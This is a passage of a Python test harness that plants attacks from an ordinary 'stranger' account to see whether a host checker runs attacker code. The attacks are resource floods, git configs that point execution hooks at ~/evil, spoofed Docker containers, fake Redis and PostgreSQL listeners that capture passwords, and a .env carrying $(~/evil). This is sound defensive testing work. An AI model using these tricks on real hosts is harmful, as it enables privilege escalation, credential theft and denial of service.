        "mkdir -p ~/.config/systemd/user; cd ~/.config/systemd/user; seq -f a%g.timer 30000 | xargs touch",
        sees=BACKUPS,
        alone=True,
    ),
    Attack(
        "floods",
        "sockets",
        "9000 listening sockets",
        r"""
        cat > many.py << 'PYTHON'
import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
try:
    for n in range(9000):
        one = socket.socket()
        one.bind((f"127.1.{n // 250}.{n % 250 + 1}", 7777))
        one.listen()
        held.append(one)
except OSError:
    pass
open("ready", "w").write(str(len(held)))
time.sleep(900)
PYTHON
        hold python3 many.py; for i in $(seq 100); do [ -e ready ] && break; sleep 0.1; done
        """,
        sees=(*NETWORK, "network.only-expected"),
        alone=True,
    ),
    Attack(
        "floods",
        "processes-in-project",
        "3000 processes in the project's directory",
        "cd /srv/shop; for i in $(seq 3000); do sleep 900 > /dev/null 2>&1 < /dev/null & done",
        sees=RUNNING,
        alone=True,
    ),
    Attack(
        "floods",
        "cron-lines",
        "5200 messages of cron's about the stranger's own jobs",
        "",
        given="""
        for i in $(seq 5200); do echo "(stranger) CMD (true $i)"; done | systemd-cat --identifier=CRON
        sleep 2
        """,
        sees=BACKUPS,
        alone=True,
    ),
)

# A repository that the stranger may write

_FOUND = {"env.git": frozenset({"fail", "unknown"})}
_CLEAN = {"env.git": frozenset({"pass", "unknown"})}
_CONFIGURED = """
payload ~/evil; cd /srv/shop
"""


def _repository(
    name: str, what: str, plant: str, *, given: str = _LEAK, may: Mapping[str, frozenset[str]] = _FOUND
) -> Attack:
    return Attack("repository", name, what, _CONFIGURED + plant, sees=GIT, given=given, may=may, alone=True)


REPOSITORY = (
    Attack(
        "repository",
        "configured-programs",
        "The configuration names programs to run",
        _CONFIGURED
        + """
        for key in core.fsmonitor core.sshCommand core.pager core.editor core.askPass core.gitProxy \\
            diff.external diff.evil.textconv diff.evil.command filter.evil.clean filter.evil.smudge \\
            filter.evil.process merge.evil.driver gpg.program gpg.ssh.program credential.helper pager.log \\
            core.alternateRefsCommand pager.diff interactive.diffFilter sequence.editor \\
            uploadpack.packObjectsHook remote.origin.uploadpack \\
            alias.log alias.rev-parse alias.cat-file; do git config --file .git/config $key $HOME/evil; done
        git config --file .git/config core.hooksPath $HOME/hooks
        git config --file .git/config log.showSignature true
        mkdir -p ~/hooks; for one in post-index-change reference-transaction pre-auto-gc
        do payload ~/hooks/$one; done
        cp ~/hooks/* .git/hooks/; echo '* diff=evil filter=evil merge=evil' > .git/info/attributes
        """,
        sees=GIT,
        given=_GIT + _SHARED,
        may=_CLEAN,
        alone=True,
    ),
    _repository(
        "programs",
        "The same, and a secret was committed",
        """
        for key in core.fsmonitor diff.external diff.evil.textconv diff.evil.command filter.evil.clean \\
            gpg.program gpg.ssh.program core.alternateRefsCommand
            do git config --file .git/config $key $HOME/evil; done
        echo '* diff=evil filter=evil' > .git/info/attributes
        git config --file .git/config log.showSignature true
        """,
    ),
    _repository(
        "include",
        "include.path leads to a file at home",
        """
        git config --file ~/included core.fsmonitor ~/evil; git config --file ~/included diff.external ~/evil
        git config --file .git/config --add include.path ~/included
        """,
    ),
    _repository(
        "worktree-config",
        "Configuration of the working tree's own, and a common folder at home",
        """
        git config --file .git/config extensions.worktreeConfig true
        git config --file .git/config core.repositoryFormatVersion 1
        git config --file .git/config.worktree core.fsmonitor ~/evil
        git config --file .git/config.worktree diff.external ~/evil
        """,
    ),
    _repository(
        "common-folder",
        "The repository's common folder is one at home",
        """
        cp -r .git ~/common; git config --file ~/common/config core.fsmonitor ~/evil
        git config --file ~/common/config diff.external ~/evil; echo ~/common > .git/commondir
        """,
    ),
    *(
        _repository(
            f"promisor-{name}",
            f"Objects are missing, and the promisor remote is to be had by {what}",
            f"""
            set_() {{ git config --file .git/config "$1" "$2"; }}
            {settings}
            set_ remote.origin.promisor true; set_ extensions.partialClone origin
            set_ core.repositoryFormatVersion 1; set_ protocol.allow always
            object=$(git -c safe.directory='*' rev-parse HEAD~1:notes.txt)
            rm -f .git/objects/${{object:0:2}}/${{object:2}}
            """,
        )
        for name, what, settings in (
            ("ext", "ext::", 'set_ protocol.ext.allow always; set_ remote.origin.url "ext::$HOME/evil"'),
            (
                "uploadpack",
                "a program for uploadpack",
                (
                    "set_ protocol.file.allow always; set_ remote.origin.url file://$HOME; "
                    "set_ remote.origin.uploadpack $HOME/evil"
                ),
            ),
            (
                "ssh",
                "a program for ssh",
                (
                    "set_ protocol.ssh.allow always; set_ remote.origin.url ssh://x/x; "
                    "set_ core.sshCommand $HOME/evil"
                ),
            ),
            (
                "proxy",
                "a program as proxy",
                (
                    "set_ protocol.git.allow always; set_ remote.origin.url git://x/x; "
                    "set_ core.gitProxy $HOME/evil"
                ),
            ),
        )
    ),
    _repository(
        "worktree", "core.worktree leads elsewhere", "git config --file .git/config core.worktree ~/"
    ),
    _repository("bare", "core.bare is set", "git config --file .git/config core.bare true"),
    _repository(
        "replaced",
        "The commit with the secret is replaced by one without",
        """
        export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x@x
        safely() { git -c safe.directory='*' "$@"; }
        safely replace $(safely rev-parse HEAD~1) $(safely commit-tree -m x -p HEAD~2 HEAD~2^{tree})
        safely pack-refs --all || true
        """,
    ),
    _repository(
        "grafts",
        "A graft and a shallow mark cut the history before the secret",
        "git -c safe.directory='*' rev-parse HEAD > .git/info/grafts",
    ),
    _repository(
        "shallow",
        "A file says that the history ends after it",
        "git -c safe.directory='*' rev-parse HEAD > .git/shallow",
    ),
    _repository(
        "no-diff", "Attributes say that nothing has a diff", "echo '* -diff -text' > .git/info/attributes"
    ),
    _repository(
        "log-settings",
        "Settings of log and diff leave out the first commit, renames, merges, and all that is there",
        """
        for one in log.showRoot=false log.follow=true diff.ignoreSubmodules=all log.diffMerges=off \\
            diff.context=0 diff.noprefix=true diff.wsErrorHighlight=all core.quotePath=true \\
            log.excludeDecoration=refs/* log.mailmap=true \\
            color.ui=always log.initialDecorationSet=all diff.algorithm=histogram \\
            core.attributesFile=/home/stranger/attributes; do
            git config --file .git/config "${one%%=*}" "${one#*=}"; done; echo '* -diff' > ~/attributes
        """,
    ),
    _repository(
        "hidden-refs",
        "The commit with the secret is on a branch that is hidden, or has lost its reference",
        """
        git config --file .git/config transfer.hideRefs refs/heads
        git config --file .git/config --add transfer.hideRefs HEAD
        git config --file .git/config core.commitGraph true; git config --file .git/config gc.reflogExpire now
        """,
    ),
    _repository(
        "zero-bytes",
        "The file with the secret was committed with NUL bytes, under another name",
        """
        export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x@x
        """,
        given=_GIT
        + """
        (printf '\\0\\0\\n'; cat .env) > notes.bin; in_git add notes.bin
        in_git commit --quiet --message Notes; in_git rm --quiet notes.bin
        in_git commit --quiet --message 'No notes'
        """
        + _SHARED,
    ),
    _repository(
        "fifos",
        "Configuration, index, references, reflog, orders of files and objects are FIFOs or without end",
        """
        mkfifo ~/fifo; mkdir -p ~/objects/info ~/objects/pack; echo ~/objects > .git/objects/info/alternates
        object=$(git -c safe.directory='*' rev-parse HEAD~1:notes.txt)
        rm -f .git/objects/${object:0:2}/${object:2}; mkdir -p ~/objects/${object:0:2}
        mkfifo ~/objects/${object:0:2}/${object:2} ~/objects/pack/pack-1.idx
        rm -f .git/index .git/packed-refs .git/logs/HEAD; mkfifo .git/index .git/packed-refs .git/logs/HEAD
        for one in include.path=$HOME/fifo diff.orderFile=/dev/zero mailmap.file=/dev/zero; do
            git config --file .git/config "${one%%=*}" "${one#*=}"; done
        """,
    ),
    _repository(
        "many-refs",
        "5000 references, and a reflog of a hundred thousand lines",
        """
        at=$(git -c safe.directory='*' rev-parse HEAD)
        for i in $(seq 5000); do echo "$at refs/heads/b$i"; done >> .git/packed-refs
        for i in $(seq 100000); do echo "$at $at x <x@x> 1700000000 +0000	x"; done >> .git/logs/HEAD
        """,
    ),
    _repository(
        "commit-graph",
        "A commit graph that says nonsense",
        "mkdir -p .git/objects/info; head -c 4000 /dev/urandom > .git/objects/info/commit-graph",
    ),
)

# Containers

CONTAINERS = (
    Attack(
        "containers",
        "host-pids",
        "A container in the host's PID namespace, root and a stranger in it, runs an nginx of its own",
        "printf 'events {}\\nerror_log %s/%s.log;\\n' $proof $attack > /tmp/evil-container.conf",
        kind="good-docker",
        given="",
        sees=(*ADMIN, *RUNNING),
    ),
    Attack(
        "containers",
        "labels",
        "Labels and environment of an image claim to be of the product",
        "",
        kind="good-docker",
        sees=(*ADMIN, *RUNNING, *NETWORK),
        may={
            "env.running": frozenset({"pass", "fail", "unknown"}),
            "env.restarted": frozenset({"pass", "fail", "unknown"}),
        },
        alone=True,
    ),
)
# Containers are started by the host's owner; what is in them is not theirs.
BY_ROOT = {
    "host-pids": r"""
    for user in 0:0 12345:12345; do
        docker run --detach --name "evil-${user%%:*}" --pid=host --user $user --entrypoint sh \
            python:3.11-slim-bookworm -c '
                cp /bin/sleep /usr/sbin/nginx || cp /bin/sleep /tmp/nginx
                PATH=$PATH:/tmp
                exec bash -c "exec -a \"nginx: master process nginx -c /tmp/evil-container.conf\" nginx 900"'
    done > /dev/null
    """,
    "labels": r"""
    docker build --quiet --tag evil - > /dev/null << EOF
FROM python:3.11-slim-bookworm
ENV SECRET_KEY=old JWT_SECRET_KEY=old POSTGRES_PASSWORD=old
LABEL com.docker.compose.project=shop com.docker.compose.service=web
LABEL com.docker.compose.project.working_dir=/srv/shop com.docker.compose.project.config_files=/tmp/evil.yml
EOF
    docker run --detach --name evil-labels evil sleep 900 > /dev/null
    """,
}

# Servers that want passwords

_LISTENER = """
cat > server.txt << 'PYTHON'
import socket, sys
with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as server, open("told", "ab", buffering=0) as told:
    while True:
        one, _ = server.accept()
        with one:
            one.settimeout(5)
            try:
                while data := one.recv(65536):
                    told.write(data)
                    if sys.argv[1] == "6379":
                        one.sendall(b"+OK\\r\\n")
                    elif data[4:8] == b"\\x04\\xd2\\x16\\x2f":
                        one.sendall(b"N")
                    else:  # a password in the clear is wanted
                        one.sendall(b"R\\0\\0\\0\\x08\\0\\0\\0\\x03")
            except OSError:
                pass
PYTHON
named NAME; hold ./NAME server.txt PORT; listening PORT 127.0.0.1
"""
SERVERS = tuple(
    Attack(
        "servers",
        name,
        f"{title} is not running, and a server of the stranger's is at its port",
        _LISTENER.replace("NAME", name).replace("PORT", port),
        given=f"systemctl stop {unit}",
        undo=f"systemctl start {unit}",
        secret=secret,
    )
    for name, title, unit, port, secret in (
        ("redis-server", "Redis", "redis-server", "6379", "REDIS_PASSWORD"),
        ("postgres", "PostgreSQL", "postgresql@15-main", "5432", "POSTGRES_PASSWORD"),
    )
)

OWN_PROJECT = Attack(
    "projects",
    "own-project",
    "A project that is the stranger's altogether: repository, compose file, .env, units",
    """
    mkdir ~/shop && cd ~/shop && git init -q . && payload ~/evil
    printf 'SECRET_KEY=changeme\\nPOSTGRES_DB=shop\\nBACKUP=$(~/evil)\\nX=`~/evil`\\n' > .env; chmod 600 .env
    echo 'services: {db: {image: postgres, build: .}}' > compose.yaml; payload docker-compose; payload docker
    git -c user.name=x -c user.email=x@x add -f . && git -c user.name=x -c user.email=x@x commit -qm x
    for key in core.fsmonitor core.sshCommand core.pager diff.external gpg.program diff.evil.textconv \\
        filter.evil.clean; do git config $key ~/evil; done
    echo '* diff=evil filter=evil' > .gitattributes; git config log.showSignature true
    """,
)

ATTACKS = (*PROCESSES, *FILES, *JOBS, *OPENINGS, *FLOODS, *ENVIRONMENT, *REPOSITORY, *CONTAINERS)


def settle(host: Host) -> None:
    """Give the stranger an account: an ordinary one."""
    host.exec(_ACCOUNT)


_RESTART = """
for unit in nginx caddy; do
    if systemctl -q is-active $unit; then systemctl reset-failed $unit; systemctl restart $unit; fi
done
"""


def plant(host: Host, *attacks: Attack) -> None:
    """Let the stranger do it. The host's own servers are started after that, so their ids are higher."""
    for one in attacks:
        _plant(host, one)
    if any(one.row in {"processes", "containers"} for one in attacks):
        host.exec(_RESTART)


def _plant(host: Host, attack: Attack) -> None:
    if "--user" in attack.plant:
        host.exec(_MANAGER)
    if attack.plant:
        words = shlex.join(
            ["runuser", "-u", "stranger", "--", "env", f"HOME={HOME}", "bash", "-s", attack.name]
        )
        # On the bad host what listens everywhere leaves no port to take.
        host.exec(words, check=host.variant != "bad", stdin=_TOOLS + attack.plant + "\nsleep 0.2\n")
    if attack.name in BY_ROOT:
        host.exec(BY_ROOT[attack.name])


def uproot(host: Host, attack: Attack | None = None) -> None:
    """End what the stranger runs, by process id, and remove all that they left, and what was given them."""
    host.exec(
        f"""
        systemctl stop user@{UID}
        for i in $(seq 20); do
            pids=$(ps -o pid= -u {UID}; ps -o pid= -U {UID}); [ -n "$pids" ] || break
            kill -KILL $pids 2> /dev/null; sleep 0.1
        done
        ids=$(docker ps -aq --filter name=evil- 2> /dev/null); [ -z "$ids" ] || docker rm -f $ids > /dev/null
        docker rmi -f evil > /dev/null 2>&1
        crontab -u stranger -r 2> /dev/null
        find /tmp /var/tmp /dev/shm -mindepth 1 -user {UID} ! -path /var/tmp/stranger ! -path {PROOF} \\
            -prune -exec rm -rf {{}} +
        find {PROOF} -mindepth 1 -delete
        find {HOME} -mindepth 1 -maxdepth 1 -exec rm -rf {{}} +
        {_MEND}
        {attack.undo if attack else ""}
        true
        """
    )


def forget(host: Host) -> None:
    """Remove the proofs."""
    host.exec(f"find {PROOF} -mindepth 1 -delete")


def executed(host: Host) -> dict[str, set[int]]:
    """Whose rights what was executed had, by the attack; the stranger's own do not count."""
    found: dict[str, set[int]] = {}
    for line in host.exec(f"find {PROOF} -mindepth 1 -printf '%U %f\\n'").splitlines():
        uid, _, name = line.partition(" ")
        if int(uid) != UID:
            found.setdefault(name.partition(".")[0], set()).add(int(uid))
    return found
